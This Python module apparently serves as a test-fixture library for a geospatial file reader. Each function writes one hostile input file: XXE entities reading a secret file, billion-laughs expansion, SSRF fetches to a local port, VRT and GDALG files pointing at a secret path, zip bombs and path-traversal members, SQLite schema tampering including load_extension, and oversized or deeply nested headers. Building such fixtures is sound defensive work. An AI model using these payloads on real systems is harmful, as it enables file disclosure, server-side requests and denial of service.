"""Files made to harm whoever reads them; each builder writes one into a folder and names what it would reach for."""

from __future__ import annotations

import json
import os
import sqlite3
import struct
import zipfile
import zlib
from functools import partial
from pathlib import Path

import numpy as np
import pyogrio
import shapely
import xlsxwriter

CANARY = "CANARY-4b1d"


def vrt(source: str) -> str:
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>{source}</SrcDataSource>'
        "<GeometryType>wkbNone</GeometryType></OGRVRTLayer></OGRVRTDataSource>"
    )


def text(folder: Path, name: str, content: str) -> Path:
    path = folder / name
    path.write_text(content, encoding="utf-8")
    return path


def collection(*geometries: str, properties: str = "{}") -> str:
    features = ",".join(f'{{"type":"Feature","properties":{properties},"geometry":{g}}}' for g in geometries)
    return f'{{"type":"FeatureCollection","features":[{features}]}}'


POINT = '{"type":"Point","coordinates":[1,2]}'


def gdalg(folder, secret, port):
    return text(folder, "a.geojson", json.dumps(
        {"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {secret} ! write x"}
    ))  # fmt: skip


def no_such_scheme(folder, secret, port):
    return Path(f"/vsicurl/http://127.0.0.1:{port}/a.gpkg")


def scheme_in_a_name(folder, secret, port):
    inner = folder / "vsizip"
    inner.mkdir()
    return text(inner, f"CSV:{secret.name}", vrt(str(secret)))


def foreign_coordinates(folder, secret, port):
    """GDAL's own prefixes in a crs member."""
    crs = f'"crs":{{"type":"link","properties":{{"href":"http://127.0.0.1:{port}/crs","type":"proj4"}}}},'
    return text(folder, "a.geojson", collection(POINT).replace('"features"', f'{crs}"features"', 1))


def gpkg(folder: Path) -> Path:
    path = folder / "a.gpkg"
    pyogrio.raw.write(
        str(path), shapely.to_wkb(np.array([shapely.Point(1, 2)])), [np.array(["亭"], dtype=object)],
        ["name"], geometry_type="Point", crs="EPSG:4326", driver="GPKG", layer="places",
    )  # fmt: skip
    return path


def changed(path: Path, *statements: str) -> Path:
    with sqlite3.connect(path) as base:
        base.execute("PRAGMA writable_schema = 1")
        for statement in statements:
            base.execute(statement)
    base.close()
    return path


ENDLESS = "WITH RECURSIVE n(fid) AS (SELECT 1 UNION ALL SELECT fid + 1 FROM n) SELECT fid, NULL geom, 'x' name FROM n"
REGISTER = "UPDATE gpkg_contents SET table_name = 'bad', identifier = 'bad'"
REGISTER_SHAPES = "UPDATE gpkg_geometry_columns SET table_name = 'bad'"


def endless_view(folder, secret, port):
    return changed(gpkg(folder), f"CREATE VIEW bad AS {ENDLESS}", REGISTER, REGISTER_SHAPES)


def table_that_is_a_view(folder, secret, port):
    """What the schema calls a table is made a view."""
    return changed(
        gpkg(folder), f"CREATE VIEW bad AS {ENDLESS}", REGISTER, REGISTER_SHAPES,
        "UPDATE sqlite_master SET type = 'table' WHERE name = 'bad'",
    )  # fmt: skip


def contents_is_a_view(folder, secret, port):
    return changed(
        gpkg(folder), "ALTER TABLE gpkg_contents RENAME TO kept",
        f"CREATE VIEW gpkg_contents AS SELECT kept.* FROM kept, ({ENDLESS})",
    )  # fmt: skip


def trigger(folder, secret, port):
    return changed(
        gpkg(folder), "CREATE TRIGGER t AFTER UPDATE ON places BEGIN DELETE FROM places; END",
    )  # fmt: skip


def virtual_table(folder, secret, port):
    sql = f"CREATE VIRTUAL TABLE bad USING VirtualOGR('{secret}')"
    return changed(
        gpkg(folder), REGISTER, REGISTER_SHAPES,
        f"INSERT INTO sqlite_master VALUES ('table', 'bad', 'bad', 0, {json.dumps(sql)})",
    )  # fmt: skip


def generated_column(folder, secret, port):
    """A column that is computed when it is read: a gigabyte a row."""
    return changed(gpkg(folder), "ALTER TABLE places ADD COLUMN bad AS (hex(zeroblob(400000000)))")


def attached_file(folder, secret, port):
    return changed(gpkg(folder), f"ALTER TABLE places ADD COLUMN bad AS (load_extension('{secret}'))")


def many_pages(folder, secret, port):
    path = gpkg(folder)
    raw = bytearray(path.read_bytes())
    raw[28:32] = b"\xff\xff\xff\xfe"
    path.write_bytes(raw)
    return path


def torn_pages(folder, secret, port):
    path = gpkg(folder)
    raw = bytearray(path.read_bytes())
    rng = np.random.default_rng(3)
    for at in rng.integers(100, len(raw), 4000).tolist():
        raw[at] = int(rng.integers(0, 256))
    path.write_bytes(raw)
    return path


def archive(folder: Path, members: dict[str, bytes]) -> Path:
    path = folder / "a.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return path


def bomb(folder, secret, port):
    return archive(folder, {"a.geojson": bytes(200 * 2**20)})


def bomb_of_kmz(folder, secret, port):
    return archive(folder, {"doc.kml": b"<kml>" + bytes(200 * 2**20)}).rename(folder / "a.kmz")


def bomb_in_a_spreadsheet(folder, secret, port):
    return archive(
        folder, {"[Content_Types].xml": b"", "xl/workbook.xml": b"<workbook>" + b" " * (200 * 2**20)}
    ).rename(folder / "a.xlsx")


def many_members(folder, secret, port):
    return archive(folder, {f"{i}.geojson": b"{}" for i in range(1200)})


def nested(folder, secret, port):
    inner = archive(folder, {"a.geojson": b"{}"}).read_bytes()
    return archive(folder, {"b.zip": inner})


def outside(folder, secret, port):
    return archive(folder, {"../../out.geojson": collection(POINT).encode()})


def link(folder, secret, port):
    path = folder / "a.zip"
    with zipfile.ZipFile(path, "w") as made:
        info = zipfile.ZipInfo("a.geojson")
        info.external_attr = 0o120777 << 16
        made.writestr(info, str(secret))
    return path


def vrt_in_a_zip(folder, secret, port):
    return archive(folder, {"a.vrt": vrt(str(secret)).encode(), "b.kml": vrt(str(secret)).encode()})


LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghijkl", "bcdefghijklm", strict=True))
    + "]>"
)


def kml(declared: str, name: str, inside: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{declared}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{inside}<Placemark>'
        f"<name>{name}</name><Point><coordinates>1,2</coordinates></Point></Placemark></Document></kml>"
    )


def gpx(declared: str, name: str) -> str:
    return (
        f'<?xml version="1.0"?>{declared}<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1">'
        f'<wpt lat="1" lon="2"><name>{name}</name></wpt></gpx>'
    )


def osm(declared: str, name: str) -> str:
    return (
        f'<?xml version="1.0"?>{declared}<osm version="0.6"><node id="1" version="1" lon="1" lat="2">'
        f'<tag k="amenity" v="toilets"/><tag k="name" v="{name}"/></node></osm>'
    )


def external(target) -> str:
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]>'


def laughing_kml(folder, secret, port):
    return text(folder, "a.kml", kml(LAUGHS, "&m;"))


def laughing_gpx(folder, secret, port):
    return text(folder, "a.gpx", gpx(LAUGHS, "&m;"))


def laughing_osm(folder, secret, port):
    return text(folder, "a.osm", osm(LAUGHS, "&m;"))


def reading_kml(folder, secret, port):
    return text(folder, "a.kml", kml(external(secret.as_uri()), "&e;"))


def reading_gpx(folder, secret, port):
    return text(folder, "a.gpx", gpx(external(secret.as_uri()), "&e;"))


def reading_osm(folder, secret, port):
    return text(folder, "a.osm", osm(external(secret.as_uri()), "n"))


def calling_kml(folder, secret, port):
    return text(folder, "a.kml", kml(f'<!DOCTYPE x SYSTEM "http://127.0.0.1:{port}/x.dtd">', "n"))


def reading_kml_in_utf16(folder, secret, port):
    path = folder / "a.kml"
    path.write_text(kml(external(secret.as_uri()), "&e;"), encoding="utf-16")
    return path


def network_link(folder, secret, port):
    links = "".join(
        f"<NetworkLink><Link><href>{target}</href></Link></NetworkLink>"
        for target in (f"http://127.0.0.1:{port}/a.kml", secret.as_uri())
    )
    return text(folder, "a.kml", kml("", "n", links))


def late_declaration(folder, secret, port):
    """The document type stands behind more than is looked at."""
    return text(folder, "a.kml", kml(f"<!--{'x' * 70_000}-->" + LAUGHS, "&m;"))


def deep_text(folder, secret, port):
    return text(folder, "a.geojson", '{"type":' + "[" * 100_000 + "]" * 100_000 + "}")


def deep_shape(folder, secret, port):
    inner = '{"type":"GeometryCollection","geometries":[' * 900
    return text(folder, "a.geojson", collection(inner + POINT + "]}" * 900))


def deep_property(folder, secret, port):
    return text(folder, "a.geojson", collection(POINT, properties='{"a":' + "[" * 900 + "]" * 900 + "}"))


def deep_wkb(folder, secret, port):
    """A collection in a collection, 200,000 times, as a shape of a GeoPackage."""
    path = gpkg(folder)
    blob = b"GP\x00\x01\x00\x00\x00\x00" + struct.pack("<BII", 1, 7, 1) * 200_000 + shapely.Point(1, 2).wkb
    with sqlite3.connect(path) as base:
        for (name,) in base.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
            base.execute(f'DROP TRIGGER "{name}"')
        base.execute("UPDATE places SET geom = ?", (blob,))
    base.close()
    return path


def huge_numbers(folder, secret, port):
    shapes = [
        f'{{"type":"Point","coordinates":[{x},{y}]}}' for x, y in (("1e308", "-1e308"), ("1e400", "NaN"))
    ]
    return text(folder, "a.geojson", collection(*shapes, properties='{"n":1e308,"i":' + "9" * 4000 + "}"))


def pipe(folder, secret, port):
    os.mkfifo(folder / "a.geojson")
    return folder / "a.geojson"


def endless_device(folder, secret, port):
    (folder / "a.geojson").symlink_to("/dev/zero")
    return folder / "a.geojson"


def huge_shape(folder, secret, port):
    """One polygon that says that it has two billion parts."""
    content = struct.pack("<i4d2i", 5, 0, 0, 1, 1, 2**31 - 1, 2**31 - 1) + bytes(100)
    record = struct.pack(">2i", 1, len(content) // 2) + content
    head = struct.pack(">7i", 9994, 0, 0, 0, 0, 0, 2**31 - 1) + struct.pack("<2i8d", 1000, 5, *[0.0] * 8)
    path = folder / "a.shp"
    path.write_bytes(head + record)
    (folder / "a.shx").write_bytes(head + struct.pack(">2i", 50, len(content) // 2))
    return path


def huge_table(folder, secret, port):
    head = struct.pack("<B3BIHH20x", 3, 120, 1, 1, 2**32 - 1, 65, 65535)
    field = struct.pack("<11sc4xBB14x", b"NAME", b"C", 254, 0)
    (folder / "a.dbf").write_bytes(head + field + b"\r" + b" " * 200)
    return folder / "a.dbf"


def huge_flatgeobuf(folder, secret, port):
    (folder / "a.fgb").write_bytes(b"fgb\x03fgb\x01" + struct.pack("<I", 2**32 - 1) + bytes(200))
    return folder / "a.fgb"


def huge_footer(folder, secret, port):
    (folder / "a.parquet").write_bytes(b"PAR1" + bytes(64) + struct.pack("<I", 2**31 - 1) + b"PAR1")
    return folder / "a.parquet"


def huge_block(folder, secret, port):
    """An OSM block that unpacks to more than it may."""
    head = b"\x0a\x09OSMHeader\x18" + bytes([20])
    (folder / "a.osm.pbf").write_bytes(
        struct.pack(">I", len(head)) + head + b"\x10\xff\xff\xff\x7f\x1a" + bytes(14)
    )
    return folder / "a.osm.pbf"


def packed_blanks(folder, secret, port):
    packer = zlib.compressobj(9, wbits=31)
    content = b"".join(packer.compress(part) for part in [b'<osm version="0.6">', *[b" " * 2**20] * 300])
    (folder / "a.osm.gz").write_bytes(content + packer.flush())
    return folder / "a.osm.gz"


def wide_sheet(folder, secret, port):
    """Two cells in the corners of the largest sheet there is."""
    path = folder / "a.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        sheet.write(0, 0, "a")
        sheet.write(1_048_575, 16_383, "b")
    return path


def blocks_in_blocks(folder, secret, port):
    """Drawings in drawings: ten to the power of twelve lines."""

    def block(name: str, inside: str) -> str:
        return f"  0\nBLOCK\n  2\n{name}\n 10\n0\n 20\n0\n{inside}  0\nENDBLK\n"

    line = "  0\nLINE\n  8\n0\n 10\n0\n 20\n0\n 11\n1\n 21\n1\n"
    blocks = block("B0", line) + "".join(
        block(f"B{i}", f"  0\nINSERT\n  8\n0\n  2\nB{i - 1}\n 10\n0\n 20\n0\n" * 10) for i in range(1, 13)
    )
    return text(
        folder, "a.dxf",
        "  0\nSECTION\n  2\nHEADER\n  0\nENDSEC\n"
        f"  0\nSECTION\n  2\nBLOCKS\n{blocks}  0\nENDSEC\n  0\nSECTION\n  2\nENTITIES\n"
        "  0\nINSERT\n  8\n0\n  2\nB12\n 10\n0\n 20\n0\n  0\nENDSEC\n  0\nEOF\n",
    )  # fmt: skip


def one_long_line(folder, secret, port):
    return text(folder, "a.csv", "name,lon,lat\n" + '"' + "x" * 1_000_000)


def many_columns(folder, secret, port):
    return text(folder, "a.csv", "lon,lat" + ",c" * 500 + "\n1,2\n")


def vrt_as(name, folder, secret, port):
    return text(folder, name, vrt(str(secret)))


def vrt_calling_as(name, folder, secret, port):
    return text(folder, name, vrt(f"/vsicurl/http://127.0.0.1:{port}/a.csv"))


BUILDERS = {
    **{f"vrt as {name}": partial(vrt_as, name) for name in (
        "a.geojson", "a.gpkg", "a.csv", "a.shp", "a.kml", "a.dxf", "a.txt",
    )},
    **{f"vrt calling as {name}": partial(vrt_calling_as, name) for name in ("a.json", "a.gpx")},
    **{build.__name__: build for build in (
        gdalg, no_such_scheme, scheme_in_a_name, foreign_coordinates, endless_view, table_that_is_a_view,
        contents_is_a_view, trigger, virtual_table, generated_column, attached_file, many_pages, torn_pages, bomb,
        bomb_of_kmz, bomb_in_a_spreadsheet, many_members, nested, outside, link, vrt_in_a_zip, laughing_kml,
        laughing_gpx, laughing_osm, reading_kml, reading_gpx, reading_osm, calling_kml, reading_kml_in_utf16,
        network_link, late_declaration, deep_text, deep_shape, deep_property, deep_wkb, huge_numbers, pipe,
        endless_device,
        huge_shape, huge_table, huge_flatgeobuf, huge_footer, huge_block, packed_blanks, wide_sheet,
        blocks_in_blocks, one_long_line, many_columns,
    )},
}  # fmt: skip
